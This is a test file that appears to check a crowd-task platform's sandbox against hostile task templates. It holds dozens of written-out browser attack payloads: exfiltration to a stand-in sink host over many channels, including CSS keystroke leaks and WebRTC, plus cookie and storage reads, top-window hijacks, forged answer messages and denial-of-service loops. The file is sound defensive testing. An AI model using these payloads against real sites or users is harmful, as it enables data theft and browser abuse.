import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { BrowserContext } from 'playwright-core'
import { startServed, type Served } from './served.ts'
import { LOADER, type Shown, showTemplate } from './template-harness.ts'

/** What a hostile template may try, and what becomes of it. */

let served: Served
let context: BrowserContext
let sink: Server
let sinkUrl: string
/** everything that reached another server */
const reached: string[] = []

beforeAll(async () => {
  served = await startServed()
  sink = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.setHeader('access-control-allow-origin', '*')
    response.end('window.stolen = true')
  })
  sink.on('connection', () => reached.push('connection'))
  sink.listen(0, '127.0.0.1')
  await once(sink, 'listening')
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`
  context = await served.as(await served.canut.signUp())
})
afterAll(async () => {
  await served?.close()
  sink?.close()
})
beforeEach(async () => {
  for (const page of context.pages()) await page.close()
  reached.length = 0
})

const FORM = '<crowd-form><crowd-input name="a" label="A" value="x"></crowd-input></crowd-form>'
const attack = (script: string, more = '') =>
  showTemplate(context, served.url, `${LOADER}${FORM}${more}<script>${script.replaceAll('SINK', sinkUrl)}</script>`)

/** The page around the frame is where it was, answers at once, and the honest part of the task still works. */
async function isHarmless(shown: Shown): Promise<boolean> {
  await shown.page.waitForTimeout(700)
  expect(shown.page.url()).toBe(`${served.url}/harness`)
  expect(context.pages()).toHaveLength(1)
  await shown.inside.getByRole('button', { name: 'Submit', exact: true }).click()
  expect(await shown.answer()).toMatchObject({ a: 'x' })
  expect(reached).toEqual([])
  await shown.page.close()
  return true
}

describe('calling out', () => {
  it.each([
    ['fetch', `fetch('SINK/fetch?' + document.title, { mode: 'no-cors' }).catch(() => {})`],
    ['XMLHttpRequest', `{ const x = new XMLHttpRequest(); x.open('GET', 'SINK/xhr'); try { x.send() } catch {} }`],
    ['sendBeacon', `navigator.sendBeacon('SINK/beacon', 'x')`],
    ['WebSocket', `try { new WebSocket('SINK/ws'.replace('http', 'ws')) } catch {}`],
    ['EventSource', `try { new EventSource('SINK/events') } catch {}`],
    ['an image', `new Image().src = 'SINK/img'`],
    ['a script', `document.head.append(Object.assign(document.createElement('script'), { src: 'SINK/js' }))`],
    ['import()', `import('SINK/module').catch(() => {})`],
    ['a stylesheet', `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'SINK/css' }))`],
    ['a prefetch', `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'SINK/prefetch' }))`],
    [
      'a preload',
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: 'SINK/preload' }))`,
    ],
    [
      'a prerender rule',
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: '{"prefetch":[{"urls":["SINK/spec"]}]}' }))`,
    ],
    ['CSS', `document.body.style.background = 'url(SINK/css-image)'`],
    ['a font', `{ const f = new FontFace('x', 'url(SINK/font)'); f.load().catch(() => {}) }`],
    ['a video', `document.body.append(Object.assign(document.createElement('video'), { src: 'SINK/video', poster: 'SINK/poster' }))`],
    ['a frame', `document.body.append(Object.assign(document.createElement('iframe'), { src: 'SINK/frame' }))`],
    [
      'a frame of its own making',
      `document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<img src=SINK/srcdoc>' }))`,
    ],
    ['an object', `document.body.append(Object.assign(document.createElement('object'), { data: 'SINK/object' }))`],

    ['a ping', `{ const a = document.createElement('a'); a.href = '#'; a.ping = 'SINK/ping'; document.body.append(a); a.click() }`],
    ['a worker', `try { new Worker(URL.createObjectURL(new Blob(["fetch('SINK/worker')"]))) } catch {}`],
    [
      'WebRTC',
      `if (typeof RTCPeerConnection !== 'undefined') { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + 'SINK'.slice(7) }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
    ],
    [
      'WebRTC of a frame inside',
      `{ const f = document.createElement('iframe'); document.body.append(f); try { const P = f.contentWindow.RTCPeerConnection; if (P) { const p = new P({ iceServers: [{ urls: 'stun:' + 'SINK'.slice(7) }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } } catch {} }`,
    ],
    [
      'another base',
      `document.head.append(Object.assign(document.createElement('base'), { href: 'SINK/' })); new Image().src = 'relative'`,
    ],
    [
      'CSS that looks at what is typed',
      `document.head.append(Object.assign(document.createElement('style'), { textContent: 'crowd-input[value^="x"], input[value^="x"] { background: url(SINK/typed-x) } @import "SINK/import.css"; @font-face { font-family: f; src: url(SINK/face) } body { font-family: f }' }))`,
    ],
    ['a shared worker', `try { new SharedWorker('data:text/javascript,fetch("SINK/shared")') } catch {}`],
    ['WebTransport', `try { new WebTransport('SINK/transport'.replace('http:', 'https:')).closed.catch(() => {}) } catch {}`],
    [
      'pictures inside of pictures',
      `document.body.insertAdjacentHTML('beforeend', '<svg><image href="SINK/svg"/><use href="SINK/use#a"/><foreignObject><img src="SINK/foreign"></foreignObject><filter id="f"><feImage href="SINK/filter"/></filter></svg><picture><source srcset="SINK/source"><img srcset="SINK/srcset 2x"></picture><input type="image" alt="other" src="SINK/input">')`,
    ],
    [
      'old elements',
      `document.body.insertAdjacentHTML('beforeend', '<embed src="SINK/embed"><table background="SINK/table"><tr><td>x</td></tr></table><link rel="icon" href="SINK/icon"><link rel="manifest" href="SINK/manifest"><fencedframe></fencedframe><portal src="SINK/portal"></portal><track src="SINK/track">')`,
    ],
    [
      'a policy of its own',
      `{ document.head.insertAdjacentHTML('afterbegin', '<meta http-equiv="Content-Security-Policy" content="default-src *">'); new Image().src = 'SINK/loosened' }`,
    ],
  ])('by %s reaches nobody', async (_name, script) => {
    expect(await isHarmless(await attack(script))).toBe(true)
  })

  it.each([
    [
      'a form',
      `setTimeout(() => { const f = document.createElement('form'); f.action = 'SINK/form'; f.method = 'post'; document.body.append(f); f.submit() }, 300)`,
    ],
    [
      'a refresh',
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=SINK/refresh' }))`,
    ],
  ])('by %s reaches nobody, though the frame itself may be gone', async (_name, script) => {
    const shown = await attack(script)
    await shown.page.waitForTimeout(1500)
    expect(reached).toEqual([])
    expect(shown.page.url()).toBe(`${served.url}/harness`)
  })
})

describe('leaving', () => {
  it.each([
    ['the top window', `try { top.location = 'SINK/top' } catch {}`],
    ['the parent', `try { parent.location.href = 'SINK/parent' } catch {}`],
    [
      'a link to the top',
      `{ const a = document.createElement('a'); a.href = 'SINK/a'; a.target = '_top'; document.body.append(a); a.click() }`,
    ],
    [
      'a form to the top',
      `{ const f = document.createElement('form'); f.action = 'SINK/f'; f.target = '_top'; document.body.append(f); f.submit() }`,
    ],
    ['a new window', `window.open('SINK/open')`],
    [
      'a download',
      `{ const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; document.body.append(a); a.click() }`,
    ],
    [
      'a link of a script to the top',
      `{ const a = document.createElement('a'); a.href = 'javascript:location="SINK/js"'; a.target = '_top'; document.body.append(a); a.click() }`,
    ],
    ['the history', `for (let i = 0; i < 300; i++) { try { history.pushState(i, '') } catch {} }; try { history.go(-1) } catch {}`],
    ['a question before leaving', `addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'x' })`],
    ['a name for the window', `name = 'stolen'; try { parent.name = 'stolen' } catch {}`],
    [
      'the whole screen',
      `document.addEventListener('click', () => { document.body.requestFullscreen?.().catch(() => {}); document.body.requestPointerLock?.() }); document.body.requestFullscreen?.().catch(() => {})`,
    ],
  ])('by %s does not happen', async (_name, script) => {
    expect(await isHarmless(await attack(script))).toBe(true)
  })

  it.each([
    ['a page of its own making', `URL.createObjectURL(new Blob(['<script>fetch("SINK/blob")</script>'], { type: 'text/html' }))`],
    ['a page in its address', `'data:text/html,<img src=SINK/data>'`],
    ['a script', `'javascript:document.write("<img src=SINK/written>")'`],
  ])('for %s: nothing is reached from there', async (_name, address) => {
    const shown = await attack(`setTimeout(() => { location = ${address} }, 300)`)
    await shown.page.waitForTimeout(2000)
    expect(reached).toEqual([])
    expect(shown.page.url()).toBe(`${served.url}/harness`)
    expect(context.pages()).toHaveLength(1)
    await shown.page.close()
  })

  it('by a dialog does not happen: what it says is in the page, little of it at once, and goes away', async () => {
    const shown = await attack(`confirm('x'); prompt('x'); for (let time = 0; time < 50; time++) alert('again ' + time)`)
    expect(await shown.inside.getByText(/^(x|again)/).count()).toBe(5)
    await shown.inside.getByRole('button', { name: 'OK' }).click()
    expect(await isHarmless(shown)).toBe(true)
  })

  it('by dialogs without end does not happen: a page that says so much is not listened to any more', async () => {
    expect(await isHarmless(await attack(`setInterval(() => { alert('x'); print() }, 5)`))).toBe(true)
  })

  it('by itself: the frame goes nowhere, the page says that the task does not answer, and it can be loaded again', async () => {
    const shown = await attack(`setTimeout(() => { location = 'SINK/self' }, 300)`)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 60_000 }).toContain('does not answer')
    expect(reached).toEqual([])
    expect(shown.page.url()).toBe(`${served.url}/harness`)
    await shown.page.close()
  })

  it('by loading itself for ever ends after a few times', async () => {
    const shown = await attack(`setTimeout(() => location.reload(), 50)`)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 60_000 }).toMatch(/left for another address|does not answer/)
    await shown.page.close()
  })
})

describe('reading', () => {
  it('the page around it, its cookies and its storage: there is nothing', async () => {
    const shown = await attack(`window.got = {}
      const attempt = (name, read) => { try { got[name] = String(read()) } catch (error) { got[name] = error.name } }
      attempt('parent', () => parent.document.body.innerHTML); attempt('top', () => top.document.cookie); attempt('cookie', () => document.cookie)
      attempt('local', () => localStorage.length); attempt('session', () => sessionStorage.length); attempt('db', () => indexedDB.open('x'))
      attempt('caches', () => caches.keys()); attempt('frames', () => parent.frames[0].document === document); attempt('origin', () => origin)
      attempt('worker', () => navigator.serviceWorker && navigator.serviceWorker.register('/x.js'))
      fetch('/api/v1/me', { credentials: 'include' }).then((r) => r.text()).then((t) => { got.api = t }, (e) => { got.api = e.name })`)
    const frame = await shown.frame()
    await frame.waitForFunction('"api" in got')
    const got = await frame.evaluate<Record<string, string>>('got')
    expect(got).toMatchObject({
      parent: 'SecurityError',
      top: 'SecurityError',
      cookie: 'SecurityError',
      local: 'SecurityError',
      session: 'SecurityError',
      origin: 'null',
      api: 'TypeError',
    })
    expect(got['db']).toMatch(/SecurityError|IDBOpenDBRequest/)
    expect(got['caches']).toMatch(/SecurityError|ReferenceError|Promise/)
    expect(await isHarmless(shown)).toBe(true)
  })
})

describe('asking', () => {
  it('the browser for what only a person gives: nothing is asked, and nothing is given', async () => {
    const shown = await attack(`window.got = {}
      const ask = (name, of) => { try { Promise.resolve(of()).then(() => { got[name] = 'given' }, (error) => { got[name] = error.name ?? String(error) }) } catch (error) { got[name] = error.name } }
      ask('place', () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, (e) => no({ name: 'denied ' + e.code }))))
      ask('camera', () => navigator.mediaDevices.getUserMedia({ video: true })); ask('sound', () => navigator.mediaDevices.getUserMedia({ audio: true }))
      ask('screen', () => navigator.mediaDevices.getDisplayMedia()); ask('read', () => navigator.clipboard.readText())
      ask('write', () => navigator.clipboard.writeText('stolen')); ask('lock', () => navigator.wakeLock.request('screen'))
      ask('credential', () => navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } }))
      ask('usb', () => navigator.usb.requestDevice({ filters: [] })); ask('storage', () => document.requestStorageAccess())
      ask('notice', () => Notification.requestPermission().then((answer) => answer === 'granted' ? 1 : Promise.reject({ name: answer })))`)
    const frame = await shown.frame()
    const names = ['place', 'camera', 'sound', 'screen', 'read', 'write', 'lock', 'credential', 'usb', 'storage', 'notice']
    const got = () => frame.evaluate<Record<string, string>>('got')
    await expect.poll(async () => Object.keys(await got()).toSorted()).toEqual(names.toSorted())
    expect(Object.values(await got())).not.toContain('given')
    expect(await isHarmless(shown)).toBe(true)
  })

  it('other tabs, and pages that come later, through what browsers share', async () => {
    const shown = await attack(`window.heard = []
      try { const channel = new BroadcastChannel('x'); channel.onmessage = ({ data }) => heard.push(data); channel.postMessage('from the template') } catch {}`)
    const heard = await shown.page.evaluate(
      () =>
        new Promise((resolve) => {
          const said: unknown[] = []
          const channel = new BroadcastChannel('x')
          channel.addEventListener('message', ({ data }) => said.push(data))
          channel.postMessage('from the page')
          setTimeout(() => resolve(said), 500)
        }),
    )
    expect(heard).toEqual([])
    expect(await (await shown.frame()).evaluate('heard')).toEqual([])
    expect(await isHarmless(shown)).toBe(true)
  })
})

describe('answering', () => {
  it('twice, by whatever way, counts once', async () => {
    const shown = await attack(`document.addEventListener('all-crowd-elements-ready', () => { const f = document.querySelector('crowd-form')
      f.submit(); f.submit(); f._submitHelperForm(); f.reopen(); f._submitHelperForm(); f.reopen(); f.submit()
      f.dispatchEvent(new CustomEvent('canut-answer', { bubbles: true, detail: { answer: { a: 'forged' } } })) })`)
    expect(await shown.answer()).toEqual({ a: 'x' })
    await shown.page.waitForTimeout(400)
    expect((await shown.sent()).submissions).toHaveLength(1)
    await shown.page.close()
  })

  it('with a message that another window could send is not heard', async () => {
    const shown = await attack(`for (const canut of ['', location.hash.slice(1)]) for (const kind of ['answer', 'open', 'draft'])
      parent.postMessage({ canut, kind, sent: { answer: { a: 'forged' } }, page: 'x', entries: [] }, '*')`)
    expect(await isHarmless(shown)).toBe(true)
  })

  it.each([
    ['more than can be kept', `document.querySelector('crowd-input').value = 'x'.repeat(800000)`],
    [
      'what is no answer',
      `HTMLElement.prototype.toString.call; Object.defineProperty(document.querySelector('crowd-form').constructor.prototype, 'serialised', { get: () => ({ answer: [1, 2] }) })`,
    ],
  ])('with %s is refused, and said', async (_name, script) => {
    const shown = await attack(`addEventListener('load', () => { ${script} })`)
    await (await shown.frame()).waitForFunction(() => document.readyState === 'complete')
    await shown.inside.getByRole('button', { name: 'Submit', exact: true }).click()
    await expect.poll(() => shown.notice().catch(() => '')).toContain('more than can be kept')
    expect((await shown.sent()).submissions).toEqual([])
    await shown.page.close()
  })
})

describe('taking the browser', () => {
  it('by an endless loop: the page around it stays usable, says so, and offers to load it again', async () => {
    const shown = await attack(`setTimeout(() => { for (;;); }, 200)`)
    await expect.poll(() => shown.notice().catch(() => ''), { timeout: 60_000 }).toContain('does not answer')
    // the loop goes on: were the page around in its process, this would never come back
    expect(await shown.page.evaluate(() => 1 + 1)).toBe(2)
    expect(await shown.page.getByRole('button', { name: 'Load the page again' }).isEnabled()).toBe(true)
    await shown.page.close()
  })

  it.each([['rules that never end', `setTimeout(() => /^(a+)+$/.test('a'.repeat(60) + 'b'), 200)`]])(
    'by %s: the page around it stays usable and says so',
    async (_name, script) => {
      const shown = await attack(script)
      await expect.poll(() => shown.notice().catch(() => ''), { timeout: 60_000 }).toContain('does not answer')
      expect(await shown.page.getByRole('button', { name: 'Load the page again' }).isEnabled()).toBe(true)
      await shown.page.close()
    },
  )

  it.each([
    [
      'a flood of messages',
      `{ let n = 0; const flood = setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({ canut: 'x', kind: 'height', px: i, text: 'x'.repeat(2000) }, '*'); if (++n > 40) clearInterval(flood) }, 10) }`,
    ],
    ['a hundred thousand elements', `document.body.insertAdjacentHTML('beforeend', '<i>x</i>'.repeat(100000))`],
    ['a gigabyte of memory', `window.kept = []; for (let i = 0; i < 10; i++) kept.push(new Uint8Array(100_000_000))`],
    [
      'machine language, which is not let in at all',
      `setTimeout(() => new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11]))).exports.f(), 200)`,
    ],
    [
      'music',
      `{ const audio = new Audio('data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA='); audio.loop = true; audio.play().catch(() => {}) }`,
    ],
  ])('by %s does no harm to the task', async (_name, script) => {
    expect(await isHarmless(await attack(script))).toBe(true)
  })

  it('by taking the focus again and again: keys outside of the frame still work', async () => {
    const shown = await attack(`document.querySelector('crowd-input').focus(); window.focus()
      setInterval(() => { window.focus(); document.querySelector('crowd-input').focus() }, 50)`)
    await shown.page.evaluate(() => document.body.append(Object.assign(document.createElement('button'), { textContent: 'Outside' })))
    const outer = shown.page.getByRole('button', { name: 'Outside' })
    // later than what a key or a press in the page around may have been for
    await shown.page.waitForTimeout(1200)
    await outer.focus()
    await expect.poll(() => shown.notice().catch(() => '')).toContain('keeps taking the keyboard')
    await expect.poll(() => outer.evaluate((button) => button === document.activeElement)).toBe(true)
    await shown.page.close()
  })

  it('by growing without end stops at a height', async () => {
    const shown = await attack(`setInterval(() => { document.body.style.height = (innerHeight + 500) + 'px' }, 10)`)
    await shown.page.waitForTimeout(2500)
    expect(await shown.page.locator('iframe').evaluate((frame) => frame.getBoundingClientRect().height)).toBeLessThanOrEqual(30_000)
    await shown.page.close()
  })
})
